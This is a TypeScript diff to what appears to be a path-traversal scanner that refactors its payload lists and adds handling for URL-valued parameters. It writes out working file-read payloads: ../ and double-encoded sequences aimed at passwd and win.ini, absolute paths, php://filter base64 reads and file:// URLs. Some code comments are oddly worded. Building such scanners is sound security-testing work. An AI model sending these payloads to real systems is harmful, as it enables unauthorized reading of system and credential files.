@@ -15,20 +15,38 @@ const up = (step: string): string => step.repeat(steps)
 
 const { passwd, winIni, packageJson } = knownFiles
 
+// Read from a folder it leaves that, and read from nowhere else the steps at the root lead nowhere.
+const fromRoot: TraversalPayload = {
+  name: '../ sequences behind a slash',
+  file: passwd,
+  write: (_, path) => `/${up('../')}${path}`,
+}
+const absolute: TraversalPayload = { name: 'absolute path', file: passwd, write: (_, path) => `/${path}` }
+const afterFolder: TraversalPayload = {
+  name: '../ sequences after the directory of the value',
+  file: passwd,
+  write: (value, path) => `${folderOf(value)}${up('../')}${path}`,
+}
+const phpFilter: TraversalPayload = {
+  name: 'php://filter',
+  file: { ...passwd, recognize: recognizeEncoded },
+  write: (_, path) => `php://filter/convert.base64-encode/resource=/${path}`,
+}
+const fileUrl: TraversalPayload = {
+  name: 'file:// URL',
+  file: passwd,
+  write: (_, path) => `file:///${path}`,
+}
+
 /** Ways that differ in what stands in front of a value, or checks it: the likeliest first. */
 const likeliest: readonly TraversalPayload[] = [
-  {
-    // Read from a folder it leaves that, and read from nowhere else the steps at the root lead nowhere.
-    name: '../ sequences behind a slash',
-    file: passwd,
-    write: (_, path) => `/${up('../')}${path}`,
-  },
+  fromRoot,
   {
     name: 'double-encoded ../ sequences',
     file: passwd,
     write: (_, path) => `${up('%2e%2e%2f')}${path}`,
   },
-  { name: 'absolute path', file: passwd, write: (_, path) => `/${path}` },
+  absolute,
   {
     name: 'nested ../ sequences, which survive removal of ../',
     file: passwd,
@@ -43,22 +61,17 @@ const elsewhere: readonly TraversalPayload[] = [
     file: winIni,
     write: (_, path) => `\\${up('..\\')}${path}`,
   },
-  {
-    name: 'php://filter',
-    file: { ...passwd, recognize: recognizeEncoded },
-    write: (_, path) => `php://filter/convert.base64-encode/resource=/${path}`,
-  },
-  { name: 'file:// URL', file: passwd, write: (_, path) => `file:///${path}` },
+  phpFilter,
+  fileUrl,
 ]
+
+/** In place of a URL: what fetches it takes no path without a scheme, but what opens it may. */
+const inUrl: readonly TraversalPayload[] = [fromRoot, fileUrl, absolute, phpFilter, afterFolder]
 
 /** What only a value needs that is known to be the path of a file. */
 const seldom: readonly TraversalPayload[] = [
   { name: '../ sequences', file: passwd, write: (_, path) => `${up('../')}${path}` },
-  {
-    name: '../ sequences after the directory of the value',
-    file: passwd,
-    write: (value, path) => `${folderOf(value)}${up('../')}${path}`,
-  },
+  afterFolder,
   {
     name: '../ sequences with a null byte before the extension',
     file: passwd,
@@ -97,8 +110,14 @@ export const payloadCounts = {
 
 /** The payloads for a parameter that has this value, the likeliest first. */
 export function traversalPayloadsFor(value: string): readonly TraversalPayload[] {
+  if (isUrl(value)) return inUrl
   const all = [...likeliest, ...elsewhere, ...seldom]
   return value.endsWith('.json') ? [...all, ...ofProject] : all
+}
+
+/** Says whether a value is a URL with its scheme, which is no path to go on from. */
+export function isUrl(value: string): boolean {
+  return /^[a-z][a-z0-9+.-]{0,20}:\/\//i.test(value)
 }
 
 const base64CharsMin = 80
